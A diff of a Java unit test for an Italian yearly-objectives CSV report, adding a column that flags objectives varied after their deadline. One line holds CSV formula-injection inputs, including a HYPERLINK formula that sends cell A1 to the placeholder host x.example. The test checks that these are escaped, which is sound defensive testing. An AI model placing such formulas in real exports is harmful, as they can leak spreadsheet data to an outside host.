@@ -19,7 +19,7 @@ class YearReportCsvTest {
 
     String line = csv.lines().skip(1).findFirst().orElseThrow();
     assertThat(line).startsWith("2017_ZN02;\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"clic\"\")\";'+1+1;'-2+3;'@SUM(A1:A9);");
-    assertThat(csv).contains(";'\t=1+1;").contains(";\"'\r=1+1\";95,00;60,00;'=Rivedere la fase 2\r\n");
+    assertThat(csv).contains(";'\t=1+1;").contains(";\"'\r=1+1\";95,00;60,00;'=Rivedere la fase 2;No\r\n");
   }
 
   @Test
@@ -29,7 +29,16 @@ class YearReportCsvTest {
 
     String line = csv(o).lines().skip(1).findFirst().orElseThrow();
     assertThat(line).isEqualTo("2017_ZN02;Riduzione dei tempi;Direzione;Servizio;Rossi Anna;Chiuso;-3,50;Non raggiunto;"
-        + "Ritardo - fornitore;95,00;60,00;'=Rivedere la fase 2");
+        + "Ritardo - fornitore;95,00;60,00;'=Rivedere la fase 2;No");
+  }
+
+  @Test
+  void anObjectiveVariedAfterItsDeadlineIsFlagged() throws IOException {
+    StringWriter out = new StringWriter();
+    YearReportCsv.write(List.of(objective("Titolo", "D", "S", "M", "", "")), java.util.Set.of("2017_ZN02"), out);
+
+    assertThat(out.toString().lines().findFirst().orElseThrow()).endsWith(";Variazione dopo la scadenza");
+    assertThat(out.toString().lines().skip(1).findFirst().orElseThrow()).endsWith(";'=Rivedere la fase 2;Sì");
   }
 
   private static MonitoredObjective objective(String title, String department, String unit, String manager,
@@ -41,12 +50,12 @@ class YearReportCsvTest {
       BigDecimal score, String band, String reason) {
     return new MonitoredObjective("2017_ZN02", 2017, title, department, null, unit, manager, "rossianna", "", "", "",
         "p1", ObjectiveState.REPORTED, "Chiuso", true, 4, 4, 0, 0, new BigDecimal("95"), new BigDecimal("60"), score, band,
-        reason, "=Rivedere la fase 2", null);
+        reason, "=Rivedere la fase 2", null, 0);
   }
 
   private static String csv(MonitoredObjective objective) throws IOException {
     StringWriter out = new StringWriter();
-    YearReportCsv.write(List.of(objective), out);
+    YearReportCsv.write(List.of(objective), java.util.Set.of(), out);
     return out.toString();
   }
 }
